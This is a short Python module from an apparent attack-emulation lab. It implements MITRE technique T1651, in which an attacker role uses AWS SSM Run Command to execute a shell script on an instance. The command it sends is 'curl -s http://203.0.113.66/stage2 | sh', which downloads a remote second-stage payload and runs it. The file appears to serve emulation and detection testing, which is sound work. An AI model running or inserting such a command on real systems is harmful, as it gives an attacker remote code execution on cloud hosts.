"""ssm-send-command: run a shell command on instances through SSM Run Command (T1651)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.compromised_user import CompromisedUserOnInstance
from lab.emulator.endpoints import Endpoints


class SsmSendCommand(CompromisedUserOnInstance):
    folder = Path(__file__).parent

    def act(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("ssm", "attacker").send_command(
            InstanceIds=[prerequisites["instance_id"]],
            DocumentName="AWS-RunShellScript",
            Parameters={"commands": ["curl -s http://203.0.113.66/stage2 | sh"]},
        )


TECHNIQUE = SsmSendCommand
